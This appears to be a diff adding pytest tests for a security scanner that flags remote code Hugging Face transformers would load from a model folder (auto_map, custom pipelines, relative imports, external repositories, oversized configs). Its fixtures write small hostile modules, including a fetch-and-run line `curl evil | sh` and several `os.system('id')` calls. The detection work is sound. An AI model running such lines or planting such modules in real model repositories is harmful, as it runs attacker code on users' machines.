@@ -1,0 +1,196 @@
+"""Remote code transformers may import from a folder: auto_map of every config it reads, custom_pipelines,
+the relative-import closure of each module, code in other repositories, configs not fully searched.
+
+The closure is checked against transformers' own dynamic_module_utils when the fixture venv has it."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+from builders import safetensors_file
+from conftest import ROOT
+
+import aitrail.analyze.security as S
+
+FIXTUREGEN = ROOT / "benchmarks" / "work" / "fixturegen" / "bin" / "python"
+
+
+def _rules(report: dict) -> set[tuple[str, str, str]]:
+    return {(f["path"], x["rule"], x["severity"]) for f in report["files"] for x in f["findings"]}
+
+
+def _model(folder: Path, config: dict, **modules: str) -> Path:
+    safetensors_file(folder / "model.safetensors")
+    (folder / "config.json").write_text(json.dumps({"model_type": "x", **config}))
+    for name, src in modules.items():
+        p = folder / f"{name.replace('.', '/')}.py"
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text(src)
+    return folder
+
+
+AUTO = {"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}
+
+
+def test_a_module_reached_only_by_relative_imports_is_reviewed(tmp_path):
+    """R1: modeling_x imports .helper, helper imports .deep: transformers copies and imports both."""
+    _model(
+        tmp_path,
+        AUTO,
+        configuration_x="class XConfig: pass\n",
+        modeling_x="from .helper import setup\nclass XModel: pass\n",
+        helper="from .deep import x\ndef setup(): pass\n",
+        deep="import os\nos.system('curl evil | sh')\nx = 1\n",
+        unrelated="import os\nos.system('ls')\n",
+    )
+    found = _rules(S.scan(tmp_path))
+    assert ("deep.py", "remote-code.risky-call", "high") in found
+    assert ("helper.py", "remote-code.present", "medium") in found
+    assert not any(p == "unrelated.py" for p, _, _ in found)  # never imported: not remote code
+
+
+def test_python_relative_imports_transformers_does_not_copy_are_reviewed_too(tmp_path):
+    """`from . import helper` (Python imports helper.py; transformers' regex misses it) and a package."""
+    _model(
+        tmp_path,
+        AUTO,
+        configuration_x="class XConfig: pass\n",
+        modeling_x="from . import helper\nfrom .pkg.sub import y\nclass XModel: pass\n",
+        helper="import subprocess as sp\nsp.Popen(['id'])\n",
+        **{"pkg.sub": "import os\nos.system('id')\ny = 1\n"},
+    )
+    found = _rules(S.scan(tmp_path))
+    assert ("helper.py", "remote-code.present", "medium") in found
+    assert ("pkg/sub.py", "remote-code.risky-call", "high") in found
+
+
+def test_a_relative_import_of_a_missing_file_is_high(tmp_path):
+    _model(
+        tmp_path,
+        AUTO,
+        configuration_x="class XConfig: pass\n",
+        modeling_x="from .helper import setup\nfrom ..outside import z\nclass XModel: pass\n",
+    )
+    found = S.scan(tmp_path)
+    msgs = [x["message"] for f in found["files"] if f["path"] == "modeling_x.py" for x in f["findings"]]
+    assert any("helper.py is not in the model folder" in m for m in msgs), msgs
+    assert any("'..outside'" in m for m in msgs), msgs
+    assert ("modeling_x.py", "remote-code.unreviewed-import", "high") in _rules(found)
+
+
+def test_custom_pipelines_impl_is_remote_code(tmp_path):
+    """R9: transformers.pipeline(model=dir, trust_remote_code=True) imports custom_pipelines[*].impl."""
+    _model(
+        tmp_path,
+        {"custom_pipelines": {"evil-task": {"impl": "pipe.EvilPipeline", "pt": ["AutoModel"], "tf": []}}},
+        pipe="import os\nos.system('id')\nclass EvilPipeline: pass\n",
+    )
+    found = _rules(S.scan(tmp_path))
+    assert ("pipe.py", "remote-code.risky-call", "high") in found
+    assert ("pipe.py", "remote-code.present", "medium") in found
+
+
+@pytest.mark.parametrize(
+    "auto_map",
+    [
+        {"AutoModel": "evilorg/evilrepo--modeling_x.XModel"},
+        {"AutoImageProcessor": {"torchvision": "evilorg/evilrepo--image_x.P", "pil": "image_x.P"}},
+    ],
+)
+def test_code_in_another_repository_is_high(tmp_path, auto_map):
+    """R10: 'org/repo--module.Class' is downloaded from that repository and run: not reviewed here."""
+    _model(tmp_path, {"auto_map": auto_map}, image_x="class P: pass\n")
+    found = _rules(S.scan(tmp_path))
+    assert ("config.json", "remote-code.external", "high") in found
+    import aitrail
+
+    inv = aitrail.scan(tmp_path)
+    assert any(f.rule == "security.remote-code.external" and f.severity.value == "high" for f in inv.findings)
+
+
+def test_auto_map_naming_a_module_not_in_the_folder_is_high(tmp_path):
+    _model(tmp_path, AUTO, configuration_x="class XConfig: pass\n")  # modeling_x.py not downloaded
+    found = S.scan(tmp_path)
+    assert ("config.json", "remote-code.missing", "high") in _rules(found)
+    msgs = [x["message"] for f in found["files"] for x in f["findings"] if x["rule"] == "remote-code.missing"]
+    assert msgs == ["config.json: auto_map.AutoModel makes transformers import modeling_x.py, which is not in this "
+                    "folder: loading fetches it from the model's repository (or fails); that code was not reviewed"]
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        # an escaped key, braces in strings and a value over 64 KiB: a text search for the key misses these
+        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto\\u005fmap": {"AutoModel": "modeling_x.X"}}',
+        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto_map": {"AutoModel": "modeling_x.X", "n": "}{"}}',
+        '{"model_type": "x", "pad": "' + "x" * (9 << 20) + '", "auto_map": {"AutoModel": "modeling_x.X", "n": "'
+        + "y" * 70000 + '"}}',
+        '{"model_type": "x", "deep": ' + "[" * 400 + "]" * 400 + ', "auto\\u005fmap": {"AutoModel": "modeling_x.X"}}',
+    ],
+    ids=["escaped-key", "braces-in-strings", "long-value", "deep-and-escaped"],
+)
+def test_auto_map_of_a_config_too_large_or_deep_to_parse_is_found_exactly(tmp_path, config):
+    """R11: transformers json-loads any size and depth; the key is read as JSON reads it."""
+    (tmp_path / "config.json").write_text(config)
+    (tmp_path / "modeling_x.py").write_text("import os\nos.system('id')\n")
+    assert (tmp_path / "modeling_x.py").resolve() in S.auto_map_files(tmp_path)
+    assert json.loads(config)["auto_map"]["AutoModel"] == "modeling_x.X"  # as transformers reads it
+
+
+def test_a_config_not_searched_to_its_end_is_high(tmp_path, monkeypatch):
+    """R11: a config past the search limit may name remote code after it: not 'no auto_map'."""
+    import importlib
+
+    monkeypatch.setattr(importlib.import_module("aitrail.analyze.security.remote_code"), "MAX_CONFIG_SEARCHED", 1 << 20)
+    _model(tmp_path, {"pad": "x" * (2 << 20), "auto_map": {"AutoModel": "modeling_x.X"}})
+    found = _rules(S.scan(tmp_path))
+    assert ("config.json", "remote-code.limit-exceeded", "high") in found
+
+
+def test_an_auto_map_too_deep_to_read_is_high(tmp_path):
+    (tmp_path / "config.json").write_text(
+        '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X", "d": ' + "[" * 300 + "]" * 300 + "}}"
+    )
+    found = _rules(S.scan(tmp_path))
+    assert ("config.json", "remote-code.limit-exceeded", "high") in found
+
+
+def test_a_plain_config_and_real_remote_code_layout_stay_quiet(tmp_path):
+    """A complete remote-code folder: only the medium 'present' per module, no high."""
+    _model(
+        tmp_path,
+        AUTO,
+        configuration_x="from transformers import PretrainedConfig\nclass XConfig(PretrainedConfig): pass\n",
+        modeling_x="import torch\nfrom .configuration_x import XConfig\nclass XModel(torch.nn.Module): pass\n",
+    )
+    found = _rules(S.scan(tmp_path))
+    assert {s for _, _, s in found} == {"medium"}, found
+
+
+@pytest.mark.skipif(not FIXTUREGEN.exists(), reason="benchmarks/work/fixturegen (transformers) not built here")
+def test_closure_matches_transformers_dynamic_module_utils(tmp_path):
+    """Differential: every file transformers' get_relative_import_files reaches is among ours."""
+    _model(
+        tmp_path,
+        AUTO,
+        configuration_x="class XConfig: pass\n",
+        modeling_x="from .a import f\nfrom .b import *\nif False:\n    from .c import g  # never run: still copied\n",
+        a="from .d import h\n",
+        b="",
+        c="",
+        d="from .a import f\n",
+    )
+    code = (
+        "import sys, json\nfrom transformers.dynamic_module_utils import get_relative_import_files\n"
+        "print(json.dumps(sorted(get_relative_import_files(sys.argv[1]))))"
+    )
+    out = subprocess.run(
+        [str(FIXTUREGEN), "-c", code, str(tmp_path / "modeling_x.py")], capture_output=True, text=True, timeout=300
+    )
+    assert out.returncode == 0, out.stderr[-2000:]
+    theirs = {Path(p).resolve() for p in json.loads(out.stdout)}
+    assert theirs == {(tmp_path / f"{m}.py").resolve() for m in "abcd"}
+    assert theirs <= S.auto_map_files(tmp_path)
